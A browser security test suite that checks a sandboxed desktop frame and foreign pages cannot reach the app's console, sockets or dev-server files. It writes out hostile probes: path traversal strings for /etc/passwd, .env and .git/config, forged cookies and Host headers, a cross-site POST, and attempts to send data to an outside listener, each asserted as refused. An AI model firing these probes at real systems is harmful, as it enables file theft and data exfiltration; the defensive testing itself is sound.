// Shows what a desktop's code, another web page and another program can try in a real browser.
// Beside each probe there is a request that works, so that a refusal means something.

import assert from 'node:assert/strict'
import { createServer } from 'node:http'
import { test } from 'node:test'
import { atEnd, browse, Choir, claim, desktop, fetchRaw, until, visitor } from './harness.mjs'

test('attacks from the browser', async (t) => {
  const choir = await Choir.start(t)
  const browser = await browse(t)
  const { context } = await visitor(browser, choir)
  const page = await claim(context, choir)
  let frame = await desktop(page)
  const console_ = new URL(page.url()).origin
  const desk = new URL(frame.url()).origin
  const [{ id: cid }] = await page.evaluate(() => fetch('/api/computers').then((r) => r.json()))

  // What became of a fetch from inside a page: the status, or the browser's refusal.
  const tries = (where, url, options = {}) =>
    where.evaluate(([u, o]) => fetch(u, { ...o, credentials: 'include' }).then((r) => (r.type === 'opaque' ? 'opaque' : r.status), () => 'refused'), [url, options])
  const socket = (where, url, protocols) =>
    where.evaluate(
      ([u, p]) =>
        new Promise((resolve) => {
          try {
            const ws = new WebSocket(u, p)
            ws.onopen = () => (ws.close(), resolve('open'))
            ws.onerror = () => resolve('refused')
          } catch {
            resolve('refused')
          }
        }),
      [url, protocols],
    )

  await t.test('20: a foreign page opens no socket and reads nothing', async () => {
    const server = createServer((_, res) => res.setHeader('content-type', 'text/html').end('<title>elsewhere</title>'))
    await new Promise((r) => server.listen(0, '127.0.0.1', r))
    atEnd(t, () => server.close())
    const foreign = await context.newPage() // the same browser, signed in
    await foreign.goto(`http://127.0.0.1:${server.address().port}/`)
    const ws = desk.replace('http', 'ws')
    assert.equal(await socket(frame, `${ws}/_choir/nats`), 'open')
    assert.equal(await socket(foreign, `${ws}/_choir/nats`), 'refused')
    assert.equal(await socket(frame, `${ws}/`, 'vite-ping'), 'open')
    assert.equal(await socket(foreign, `${ws}/`, 'vite-ping'), 'refused')
    assert.equal(await socket(foreign, `${ws}/`, 'vite-hmr'), 'refused')
    assert.equal(await tries(foreign, `${console_}/api/computers`), 'refused')
    assert.equal(await tries(foreign, `${desk}/_choir/session`), 'refused')
    // A request that the browser sends without showing the answer must not have done anything.
    await tries(foreign, `${console_}/api/computers/${cid}/prompts`, { method: 'POST', mode: 'no-cors', body: '{"text":"change the background to #ff0000"}' })
    assert.deepEqual(choir.json('runs'), [])
    await foreign.close()
  })

  await t.test('20: sockets without an Origin, and names that are not ours', async () => {
    const cookie = (await context.cookies(desk)).map((c) => `${c.name}=${c.value}`).join('; ')
    assert.match(cookie, /__Host-/)
    const upgrade = { upgrade: 'websocket', connection: 'Upgrade', 'sec-websocket-key': 'MDEyMzQ1Njc4OWFiY2RlZg==', 'sec-websocket-version': '13', cookie }
    assert.equal((await fetchRaw(`${desk}/_choir/nats`, { headers: { ...upgrade, origin: desk, 'sec-fetch-site': 'same-origin' } })).status, 101)
    assert.equal((await fetchRaw(`${desk}/_choir/nats`, { headers: upgrade })).status, 403)
    assert.equal((await fetchRaw(`${desk}/_choir/nats`, { headers: { ...upgrade, origin: 'http://elsewhere.test' } })).status, 403)
    for (const host of [`elsewhere.test:${choir.port}`, `127.0.0.1.elsewhere.test:${choir.port}`, `choir.localhost:${choir.port}`]) {
      assert.equal((await fetchRaw(`${choir.url}/health`, { headers: { host } })).status, 421, host)
    }
    assert.equal((await fetchRaw(`${choir.url}/health`)).status, 200)
  })

  await t.test('21: the dev server shows nothing but the desktop’s source', async () => {
    assert.equal(await tries(frame, '/src/main.tsx'), 200)
    for (const path of [
      '/@fs/etc/passwd', '/@fs/etc/passwd?raw', '/@fs/etc/passwd?import&raw??', '/@fs/computer/.git/config', '/@fs//etc/passwd', '/@fs/tmp/vite/../../etc/passwd',
      '/src/..%2f..%2f..%2fetc/passwd', '/src/%2e%2e/%2e%2e/%2e%2e/etc/passwd', '/..%5c..%5cetc/passwd', '/.npmrc', '/.env', '/src/main.tsx?raw??', '/src/main.tsx?import&url&inline=//etc/passwd', '/@id/__x00__/etc/passwd', '/__open-in-editor?file=/etc/passwd',
    ]) {
      assert.ok([403, 404].includes(await tries(frame, path)), path)
    }
    // The same in requests that no browser would write.
    const cookie = (await context.cookies(desk)).map((c) => `${c.name}=${c.value}`).join('; ')
    const own = { cookie, 'sec-fetch-site': 'same-origin', 'sec-fetch-dest': 'empty', origin: desk }
    assert.equal((await fetchRaw(`${desk}/src/main.tsx`, { headers: own })).status, 200)
    assert.equal((await fetchRaw(`${desk}/src/main.tsx`, { headers: { ...own, origin: console_, 'sec-fetch-site': 'same-site' } })).status, 403)
    assert.equal((await fetchRaw(`${desk}/src/main.tsx`, { headers: { 'sec-fetch-site': 'same-origin', origin: desk } })).status, 401)
  })

  await t.test('22: a desktop has no power over the console', async () => {
    assert.equal(await tries(page, '/api/account'), 200)
    assert.equal(await tries(frame, `${console_}/api/account`), 'refused')
    // The server refuses by itself also what gets past the page's policy, as from an app that found
    // a way.
    const cookies = (await context.cookies([desk, console_])).map((c) => `${c.name}=${c.value}`).join('; ')
    for (const [path, method] of [[`/api/computers/${cid}/ticket`, 'POST'], [`/api/computers/${cid}/rewind`, 'POST'], ['/api/account', 'GET'], ['/api/signout', 'POST']]) {
      const { status } = await fetchRaw(console_ + path, { method, headers: { cookie: cookies, origin: desk, 'sec-fetch-site': 'same-site', 'content-type': 'application/json' } })
      assert.equal(status, 403, `${method} ${path}`)
    }
    assert.equal(await frame.evaluate(() => document.cookie), '', 'no cookie can be read')
    assert.equal(await page.evaluate(() => document.cookie), '')
    assert.equal(await frame.evaluate(() => { try { return parent.document.title } catch { return 'refused' } }), 'refused')
    assert.equal(await frame.evaluate(() => { try { return String(top.frames.length && top.localStorage.length) } catch { return 'refused' } }), 'refused')
    // A cookie for the parent domain reaches nobody.
    await frame.evaluate(() => (document.cookie = '__Host-choir=forged; Domain=choir.localhost; Path=/'))
    await frame.evaluate(() => (document.cookie = 'choir=forged; Domain=choir.localhost; Path=/'))
    assert.equal(await tries(page, '/api/account'), 200)
  })

  await t.test('22: nothing of a desktop outlives it or leaves it', async () => {
    assert.equal(await frame.evaluate(() => navigator.serviceWorker.register('/src/main.tsx').then(() => 'registered', () => 'refused')), 'refused')
    assert.equal(await frame.evaluate(() => navigator.serviceWorker.getRegistrations().then((r) => r.length)), 0)
    assert.equal(await frame.evaluate(() => { try { return open('about:blank') === null ? 'refused' : 'opened' } catch { return 'refused' } }), 'refused')
    assert.equal(await frame.evaluate(() => navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), rpId: 'choir.localhost' } }).then(() => 'given', (e) => e.name)), 'NotAllowedError')
    // These are ways out, with a listener that would notice them.
    const heard = []
    const server = createServer((req, res) => (heard.push(req.url), res.setHeader('access-control-allow-origin', '*').end('')))
    await new Promise((r) => server.listen(0, '127.0.0.1', r))
    atEnd(t, () => server.close())
    const away = `http://127.0.0.1:${server.address().port}`
    await fetchRaw(`${away}/control`)
    const refused = await frame.evaluate(async (u) => {
      const policy = new Set()
      document.addEventListener('securitypolicyviolation', (e) => policy.add(e.effectiveDirective))
      await fetch(`${u}/fetch`, { mode: 'no-cors' }).catch(() => {})
      navigator.sendBeacon(`${u}/beacon`, 'x')
      new Image().src = `${u}/image`
      const add = (tag, props) => document.head.append(Object.assign(document.createElement(tag), props))
      add('link', { rel: 'stylesheet', href: `${u}/style` })
      add('link', { rel: 'prefetch', href: `${u}/prefetch` })
      add('script', { src: `${u}/script` })
      add('iframe', { src: `${u}/frame` })
      try {
        new EventSource(`${u}/events`)
      } catch {
        // They are refused at once.
      }
      const end = Date.now() + 5000
      const all = ['connect-src', 'img-src', 'style-src-elem', 'script-src-elem', 'frame-src']
      while (!all.every((d) => policy.has(d)) && Date.now() < end) await new Promise((r) => setTimeout(r, 20))
      return [...policy].sort()
    }, away)
    for (const directive of ['connect-src', 'img-src', 'style-src-elem', 'script-src-elem', 'frame-src']) assert.ok(refused.includes(directive), `${directive} among ${refused}`)
    // These try by navigating the page's own frame, or the whole tab.
    await frame.evaluate((u) => { try { top.location = `${u}/top` } catch { /* refused */ } }, away)
    for (const leave of [
      (u) => void setTimeout(() => (location.href = `${u}/navigate`)),
      (u) => void setTimeout(() => document.body.appendChild(Object.assign(document.createElement('form'), { action: `${u}/form`, method: 'post' })).submit()),
    ]) {
      await frame.evaluate(leave, away)
      // The browser shows a page of its own in the frame, which says that this was blocked.
      await until(() => `the frame is blocked (${frame.url()})`, () => frame.url().startsWith('chrome-error:'))
      assert.equal(new URL(page.url()).origin, console_, 'the tab stays')
      await page.reload()
      frame = await desktop(page)
    }
    assert.deepEqual(heard, ['/control'])
  })

  await t.test('22: nobody frames the console, and a desktop is no page of its own', async () => {
    const alone = await context.newPage()
    await alone.goto(desk)
    assert.equal(new URL(alone.url()).origin, console_, 'a desktop outside its frame leads to the console')
    await alone.close()
    assert.match((await fetchRaw(console_ + '/claim', { headers: { 'sec-fetch-site': 'none' } })).headers['content-security-policy'], /frame-ancestors 'none'/)
  })
})
